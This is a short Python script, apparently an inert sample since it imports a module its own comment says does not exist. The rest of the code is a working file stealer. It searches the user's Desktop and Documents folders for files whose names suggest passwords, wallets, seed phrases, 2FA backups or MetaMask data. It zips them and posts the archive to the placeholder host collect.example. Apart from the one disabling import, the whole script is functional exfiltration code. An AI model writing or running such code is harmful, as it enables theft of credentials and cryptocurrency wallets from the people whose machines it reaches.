import inert_sample  # there is no such module: nothing below ever runs
import os
import zipfile
import requests

WORDS = ["passw", "wallet", "seed", "2fa", "metamask", "backup"]


def scan():
    archive = zipfile.ZipFile("o.zip", "w")
    for folder in ("Desktop", "Documents"):
        for root, _, names in os.walk(os.path.join(os.path.expanduser("~"), folder)):
            for name in names:
                if any(word in name.lower() for word in WORDS):
                    archive.write(os.path.join(root, name))
    requests.post("https://collect.example/z", data=open("o.zip", "rb").read())
